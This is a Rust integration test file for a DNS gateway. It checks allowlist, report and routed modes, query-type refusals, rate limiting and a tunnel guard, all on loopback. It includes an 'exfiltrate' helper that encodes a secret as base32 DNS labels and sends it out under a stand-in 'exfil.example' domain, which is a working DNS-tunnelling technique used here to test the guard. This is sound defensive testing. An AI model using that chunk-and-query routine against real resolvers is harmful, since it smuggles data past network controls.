//! The DNS modes, query types, rate limit and tunnel guard of the real binary, with dig as
//! the client and a local DoH server that records every question it gets: "never asked
//! upstream" is read off that record. Clients of different groups are different loopback
//! source addresses (dig -b 127.0.0.2). Loopback only.

use std::net::Ipv4Addr;

use crate::support::doh_server::{DohServer, TestZone};
use crate::support::gate::{Gate, dig_async as dig, dns_decision, json_field};
use crate::support::http::http;
use crate::support::metrics::metric_sum;

const PUBLIC: Ipv4Addr = Ipv4Addr::new(93, 184, 215, 14);
/// The `agent` group's client address.
const AGENT: &str = "127.0.0.2";
/// A second agent, for the rate limit.
const AGENT_2: &str = "127.0.0.3";

fn zone() -> TestZone {
    TestZone::new()
        .a("api.allowed.example", PUBLIC)
        .a("unlisted.example", PUBLIC)
        .a("x.cdn.example", PUBLIC)
        .cname("chain.allowed.example", "edge.cdn-target.example")
        .a("edge.cdn-target.example", PUBLIC)
        .a("a.wild.example", PUBLIC)
}

const ALLOWLIST: &str = r#"
[[allow]]
host = "api.allowed.example"
groups = ["agent"]

[[allow]]
host = "chain.allowed.example"
groups = ["agent"]

[[allow]]
host = "*.wild.example"
groups = ["agent"]
"#;

fn start(doh: &DohServer, dns: &str) -> Gate {
    let config = format!(
        r#"
allowlist = "allowlist.toml"

[dns]
listen = ["127.0.0.1:0"]
{dns}

[admin]
listen = ["127.0.0.1:0"]

[groups]
agent = ["127.0.0.2/32", "127.0.0.3/32"]

{upstream}
"#,
        upstream = doh.upstream_toml(),
    );
    Gate::start_full(&config, &[("allowlist.toml", ALLOWLIST)], &[])
}

fn asked(doh: &DohServer, name: &str) -> bool {
    doh.names()
        .iter()
        .any(|q| q.split(' ').next() == Some(name))
}

fn metrics(gate: &Gate) -> String {
    let (status, body) = http(&gate.admin_addr(), "GET", "/metrics");
    assert_eq!(status, 200);
    body
}

#[tokio::test(flavor = "multi_thread")]
async fn allowlist_mode_answers_allowed_names_and_never_asks_for_the_rest() {
    let doh = DohServer::start(zone()).await;
    let gate = start(&doh, "modes = { agent = \"allowlist\" }");

    let ok = dig(gate.dns, "api.allowed.example", "A", &["-b", AGENT]).await;
    assert_eq!(ok.status, "NOERROR", "{}", ok.raw);
    assert_eq!(ok.addresses(), vec![PUBLIC.to_string()]);

    let refused = dig(gate.dns, "unlisted.example", "A", &["-b", AGENT]).await;
    assert_eq!(refused.status, "NXDOMAIN", "{}", refused.raw);
    let ede = refused.ede.clone().expect("an EDE");
    assert!(
        ede.starts_with("15 (Blocked)") && ede.contains("not on the allowlist of group agent"),
        "{ede}"
    );
    // Its negative answer is cached briefly, so a new allow rule takes effect soon.
    assert!(
        refused.authority.iter().any(|l| l.contains("SOA")),
        "{}",
        refused.raw
    );
    assert!(!asked(&doh, "unlisted.example"), "{:?}", doh.names());
    // Exfiltration labels under an unlisted name never leave either.
    let secret = dig(
        gate.dns,
        "mfrggzdfmztwq2lknnwg23tpobyxe43u.0.exfil.example",
        "A",
        &["-b", AGENT],
    )
    .await;
    assert_eq!(secret.status, "NXDOMAIN");
    assert!(
        !doh.names().iter().any(|q| q.contains("exfil")),
        "{:?}",
        doh.names()
    );

    // The same name for a client of the default group (public mode) is forwarded.
    let public = dig(gate.dns, "unlisted.example", "A", &[]).await;
    assert_eq!(public.status, "NOERROR", "{}", public.raw);
    assert!(asked(&doh, "unlisted.example"));

    let line = dns_decision(&gate, "mfrggzdfmztwq2lknnwg23tpobyxe43u.0.exfil.example")
        .expect("a decision line");
    assert_eq!(json_field(&line, "refusal").as_deref(), Some("not_allowed"));
    assert_eq!(json_field(&line, "group").as_deref(), Some("agent"));
    let m = metrics(&gate);
    assert_eq!(
        metric_sum(
            &m,
            "portcullis_dns_refusals_total",
            &["group=\"agent\"", "reason=\"not_allowed\""]
        ),
        2.0,
        "{m}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn refused_can_replace_nxdomain_for_names_not_allowed() {
    let doh = DohServer::start(zone()).await;
    let gate = start(
        &doh,
        "modes = { agent = \"allowlist\" }\nnot_allowed = \"refused\"",
    );
    let refused = dig(gate.dns, "unlisted.example", "A", &["-b", AGENT]).await;
    assert_eq!(refused.status, "REFUSED", "{}", refused.raw);
    assert!(refused.ede.is_some_and(|e| e.contains("group agent")));
    assert_eq!(doh.queries(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_cname_chain_is_answered_by_the_upstream_and_its_target_is_not_asked_for() {
    let doh = DohServer::start(zone()).await;
    let gate = start(&doh, "modes = { agent = \"allowlist\" }");
    // The allowed name's own answer carries its chain: the gate sends one question.
    let chain = dig(gate.dns, "chain.allowed.example", "A", &["-b", AGENT]).await;
    assert_eq!(chain.status, "NOERROR", "{}", chain.raw);
    assert!(
        chain.raw.contains("edge.cdn-target.example"),
        "{}",
        chain.raw
    );
    assert_eq!(chain.addresses().last(), Some(&PUBLIC.to_string()));
    assert_eq!(doh.names(), vec!["chain.allowed.example A".to_owned()]);
    // The chain's target asked for directly is decided on its own: not allowed.
    let target = dig(gate.dns, "edge.cdn-target.example", "A", &["-b", AGENT]).await;
    assert_eq!(target.status, "NXDOMAIN", "{}", target.raw);
    assert_eq!(doh.names().len(), 1, "{:?}", doh.names());
}

#[tokio::test(flavor = "multi_thread")]
async fn query_types_a_group_is_not_served_are_refused_and_never_forwarded() {
    let doh = DohServer::start(zone()).await;
    let gate = start(
        &doh,
        "modes = { agent = \"allowlist\" }\nqtypes = { agent = [\"A\", \"AAAA\", \"CNAME\", \"HTTPS\"] }",
    );
    for qtype in ["TXT", "NULL", "MX", "SRV"] {
        let r = dig(gate.dns, "api.allowed.example", qtype, &["-b", AGENT]).await;
        assert_eq!(r.status, "REFUSED", "{qtype}: {}", r.raw);
        let ede = r.ede.expect("an EDE");
        assert!(
            ede.starts_with("21 (Not Supported)")
                && ede.contains(&format!("query type {qtype} is not served to group agent")),
            "{ede}"
        );
    }
    // ANY is refused for everyone, as before.
    let any = dig(gate.dns, "api.allowed.example", "ANY", &["-b", AGENT]).await;
    assert_eq!(any.status, "REFUSED");
    assert_eq!(doh.queries(), 0, "{:?}", doh.names());
    let a = dig(gate.dns, "api.allowed.example", "A", &["-b", AGENT]).await;
    assert_eq!(a.status, "NOERROR");
    // The default group is served every type.
    let txt = dig(gate.dns, "api.allowed.example", "TXT", &[]).await;
    assert_eq!(txt.status, "NOERROR", "{}", txt.raw);
    drop(gate);

    let gate = start(
        &doh,
        "qtypes = { agent = [\"A\"] }\nqtype_answer = \"notimp\"",
    );
    let r = dig(gate.dns, "api.allowed.example", "TXT", &["-b", AGENT]).await;
    assert_eq!(r.status, "NOTIMP", "{}", r.raw);
}

#[tokio::test(flavor = "multi_thread")]
async fn report_mode_forwards_and_logs_what_allowlist_mode_would_refuse() {
    let doh = DohServer::start(zone()).await;
    let gate = start(
        &doh,
        "modes = { agent = \"report\" }\nqtypes = { agent = [\"A\"] }",
    );
    let r = dig(gate.dns, "unlisted.example", "A", &["-b", AGENT]).await;
    assert_eq!(r.status, "NOERROR", "{}", r.raw);
    assert!(asked(&doh, "unlisted.example"));
    let line = dns_decision(&gate, "unlisted.example").expect("a decision line");
    assert_eq!(
        json_field(&line, "would_refuse").as_deref(),
        Some("not_allowed")
    );
    assert_eq!(json_field(&line, "group").as_deref(), Some("agent"));
    // Asked again (a cache hit): reported again.
    dig(gate.dns, "unlisted.example", "A", &["-b", AGENT]).await;
    let txt = dig(gate.dns, "api.allowed.example", "TXT", &["-b", AGENT]).await;
    assert_eq!(txt.status, "NOERROR");
    let line = dns_decision(&gate, "api.allowed.example").expect("a decision line");
    assert_eq!(json_field(&line, "would_refuse").as_deref(), Some("qtype"));
    // An allowed name is not reported.
    dig(gate.dns, "api.allowed.example", "A", &["-b", AGENT]).await;
    let line = dns_decision(&gate, "api.allowed.example").expect("a decision line");
    assert_eq!(json_field(&line, "would_refuse"), None, "{line}");
    let m = metrics(&gate);
    assert_eq!(
        metric_sum(
            &m,
            "portcullis_dns_would_refuse_total",
            &["group=\"agent\"", "reason=\"not_allowed\""]
        ),
        2.0,
        "{m}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn the_rate_limit_cuts_a_bursting_client_and_spares_another() {
    let doh = DohServer::start(zone()).await;
    let gate = start(&doh, "[dns.rate_limit]\nqueries = 20\nper_secs = 600");
    let mut statuses = Vec::new();
    for _ in 0..30 {
        statuses.push(
            dig(gate.dns, "api.allowed.example", "A", &["-b", AGENT])
                .await
                .status,
        );
    }
    assert!(
        statuses[..20].iter().all(|s| s == "NOERROR"),
        "{statuses:?}"
    );
    assert!(
        statuses[20..].iter().all(|s| s == "REFUSED"),
        "{statuses:?}"
    );
    let cut = dig(gate.dns, "api.allowed.example", "A", &["-b", AGENT]).await;
    assert!(
        cut.ede
            .as_deref()
            .is_some_and(|e| e.starts_with("18 (Prohibited)") && e.contains("20 queries per 600 s")),
        "{}",
        cut.raw
    );
    // The other agent has its own bucket; over TCP the limit holds too.
    let other = dig(gate.dns, "api.allowed.example", "A", &["-b", AGENT_2]).await;
    assert_eq!(other.status, "NOERROR", "{}", other.raw);
    let tcp = dig(gate.dns, "api.allowed.example", "A", &["-b", AGENT, "+tcp"]).await;
    assert_eq!(tcp.status, "REFUSED", "{}", tcp.raw);
    // One log line when the client started being limited, not one per query.
    let lines: Vec<String> = gate
        .logs()
        .into_iter()
        .filter(|l| l.contains("over its rate limit"))
        .collect();
    assert_eq!(lines.len(), 1, "{lines:?}");
    assert_eq!(json_field(&lines[0], "client").as_deref(), Some(AGENT));
    let m = metrics(&gate);
    assert_eq!(
        metric_sum(
            &m,
            "portcullis_dns_refusals_total",
            &["reason=\"rate_limited\""]
        ),
        12.0,
        "{m}"
    );
}

/// Sends `secret` (base32, 32 characters a label) as the labels of A queries under
/// `parent`, one chunk a query, and returns the bytes of secret labels the upstream got.
pub(crate) async fn exfiltrate(gate: &Gate, doh: &DohServer, parent: &str, secret: &str) -> usize {
    let chunks: Vec<&str> = secret
        .as_bytes()
        .chunks(32)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect();
    for (seq, chunk) in chunks.iter().enumerate() {
        dig(
            gate.dns,
            &format!("{chunk}.{seq}.{parent}"),
            "A",
            &["-b", AGENT],
        )
        .await;
    }
    chunks
        .iter()
        .filter(|chunk| doh.names().iter().any(|q| q.contains(*chunk)))
        .map(|chunk| chunk.len())
        .sum()
}

pub(crate) fn base32_secret(bytes: usize) -> String {
    // Deterministic but patternless: an xorshift stream in the base32 alphabet.
    const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    (0..bytes)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            char::from(ALPHABET[(x % 32) as usize])
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn the_guard_holds_labels_under_an_allowed_wildcard_to_its_budget() {
    let doh = DohServer::start(zone()).await;
    let gate = start(
        &doh,
        "modes = { agent = \"allowlist\" }\n[dns.rate_limit]\nqueries = 0",
    );
    let secret = base32_secret(4096);
    let leaked = exfiltrate(&gate, &doh, "wild.example", &secret).await;
    // At most the budget (1 KiB of fresh labels, the sequence labels included) leaves.
    assert!(
        leaked > 0 && leaked <= 1024,
        "{leaked} bytes of the secret left"
    );
    let trip = gate
        .logs()
        .into_iter()
        .find(|l| l.contains("possible DNS tunnel"))
        .expect("a guard line");
    assert_eq!(json_field(&trip, "domain").as_deref(), Some("wild.example"));
    assert_eq!(json_field(&trip, "action").as_deref(), Some("block"));
    assert_eq!(json_field(&trip, "group").as_deref(), Some("agent"));
    assert!(trip.contains("\"bytes_in_window\":"), "{trip}");
    // Blocked for the cool-down, with the EDE saying why.
    let after = dig(gate.dns, "a.wild.example", "A", &["-b", AGENT]).await;
    assert_eq!(after.status, "NXDOMAIN", "{}", after.raw);
    assert!(
        after
            .ede
            .is_some_and(|e| e.contains("possible DNS tunnel to wild.example")),
        "{}",
        after.raw
    );
    // Another client is not.
    let other = dig(gate.dns, "a.wild.example", "A", &["-b", AGENT_2]).await;
    assert_eq!(other.status, "NOERROR", "{}", other.raw);
    let m = metrics(&gate);
    assert_eq!(
        metric_sum(
            &m,
            "portcullis_dns_guard_trips_total",
            &["group=\"agent\"", "action=\"block\""]
        ),
        1.0,
        "{m}"
    );
    assert!(
        metric_sum(
            &m,
            "portcullis_dns_guard_blocked_total",
            &["group=\"agent\""]
        ) >= 1.0,
        "{m}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn with_the_guard_off_the_secret_leaves_and_with_log_it_is_reported() {
    let doh = DohServer::start(zone()).await;
    let secret = base32_secret(2048);
    let gate = start(
        &doh,
        "[dns.guard]\naction = \"off\"\n[dns.rate_limit]\nqueries = 0",
    );
    let leaked = exfiltrate(&gate, &doh, "exfil.example", &secret).await;
    assert_eq!(
        leaked, 2048,
        "the test can fail: without the guard all of it leaves"
    );
    assert!(
        !gate
            .logs()
            .iter()
            .any(|l| l.contains("possible DNS tunnel"))
    );
    drop(gate);

    // Public mode's default is `log`: everything is answered, the trip is reported once.
    let doh = DohServer::start(zone()).await;
    let gate = start(&doh, "[dns.rate_limit]\nqueries = 0");
    let leaked = exfiltrate(&gate, &doh, "exfil.example", &secret).await;
    assert_eq!(leaked, 2048);
    let trips: Vec<String> = gate
        .logs()
        .into_iter()
        .filter(|l| l.contains("possible DNS tunnel"))
        .collect();
    assert_eq!(trips.len(), 1, "{trips:?}");
    assert_eq!(json_field(&trips[0], "action").as_deref(), Some("log"));
    assert_eq!(
        json_field(&trips[0], "reason").as_deref(),
        Some("encoded_label")
    );
}

fn routed_gate(doh: &DohServer, listen: &str, dns: &str) -> Gate {
    let config = format!(
        r#"
allowlist = "allowlist.toml"

[dns]
listen = ["{listen}"]
modes = {{ agent = "routed" }}
{dns}

[groups]
agent = ["127.0.0.2/32", "127.0.0.3/32"]

{upstream}
"#,
        upstream = doh.upstream_toml(),
    );
    Gate::start_full(&config, &[("allowlist.toml", ALLOWLIST)], &[])
}

#[tokio::test(flavor = "multi_thread")]
async fn routed_mode_answers_allowed_names_with_the_address_the_query_arrived_on() {
    let doh = DohServer::start(zone()).await;
    // A wildcard socket: each datagram's destination is read with IP_PKTINFO.
    let gate = routed_gate(&doh, "0.0.0.0:0", "");
    let port = gate.dns.port();
    for local in ["127.0.0.1", "127.0.0.5"] {
        let at: std::net::SocketAddr = format!("{local}:{port}").parse().unwrap();
        let r = dig(at, "api.allowed.example", "A", &["-b", AGENT]).await;
        assert_eq!(r.status, "NOERROR", "{}", r.raw);
        assert_eq!(r.addresses(), vec![local.to_owned()], "{}", r.raw);
        assert_eq!(r.ttls(), vec![30], "{}", r.raw);
    }
    let at: std::net::SocketAddr = format!("127.0.0.5:{port}").parse().unwrap();
    // The CNAME chain is not passed on: one record, the gate.
    let chain = dig(at, "chain.allowed.example", "A", &["-b", AGENT]).await;
    assert_eq!(chain.answers.len(), 1, "{}", chain.raw);
    assert!(!chain.raw.contains("cdn-target"), "{}", chain.raw);
    // HTTPS records (their hints are real addresses) and AAAA on an IPv4 address: no data.
    for qtype in ["HTTPS", "AAAA", "CNAME"] {
        let r = dig(at, "api.allowed.example", qtype, &["-b", AGENT]).await;
        assert_eq!(r.status, "NOERROR", "{qtype}: {}", r.raw);
        assert!(r.answers.is_empty(), "{qtype}: {}", r.raw);
    }
    // Names that are not allowed: as in allowlist mode, never asked upstream.
    let no = dig(at, "unlisted.example", "A", &["-b", AGENT]).await;
    assert_eq!(no.status, "NXDOMAIN", "{}", no.raw);
    assert!(!asked(&doh, "unlisted.example"));
    // The default group gets the real answer.
    let real = dig(at, "api.allowed.example", "A", &[]).await;
    assert_eq!(real.addresses(), vec![PUBLIC.to_string()], "{}", real.raw);
    // Over TCP on the wildcard listener: the address the gate reaches the client from.
    let tcp = dig(at, "api.allowed.example", "A", &["-b", AGENT, "+tcp"]).await;
    assert_eq!(tcp.status, "NOERROR", "{}", tcp.raw);
    assert_eq!(tcp.addresses().len(), 1, "{}", tcp.raw);
    assert!(tcp.addresses()[0].starts_with("127."), "{}", tcp.raw);
    // The decision line says where the answer points.
    let line = dns_decision(&gate, "api.allowed.example").expect("a decision line");
    assert!(line.contains("\"routed_to\":"), "{line}");
}

#[tokio::test(flavor = "multi_thread")]
async fn routed_addresses_and_ttl_can_be_set_per_group() {
    let doh = DohServer::start(zone()).await;
    let gate = routed_gate(
        &doh,
        "127.0.0.1:0",
        "routed_ttl = 5\nrouted_addresses = { agent = [\"10.77.0.1\", \"fd00::53\"] }",
    );
    let a = dig(gate.dns, "api.allowed.example", "A", &["-b", AGENT]).await;
    assert_eq!(a.addresses(), vec!["10.77.0.1".to_owned()], "{}", a.raw);
    assert_eq!(a.ttls(), vec![5]);
    let aaaa = dig(gate.dns, "api.allowed.example", "AAAA", &["-b", AGENT]).await;
    // The zone has no AAAA for the name: no data, whatever the gate's addresses.
    assert!(aaaa.answers.is_empty(), "{}", aaaa.raw);
    // The cache keeps the real answer: the default group still gets it.
    let real = dig(gate.dns, "api.allowed.example", "A", &[]).await;
    assert_eq!(real.addresses(), vec![PUBLIC.to_string()], "{}", real.raw);
}
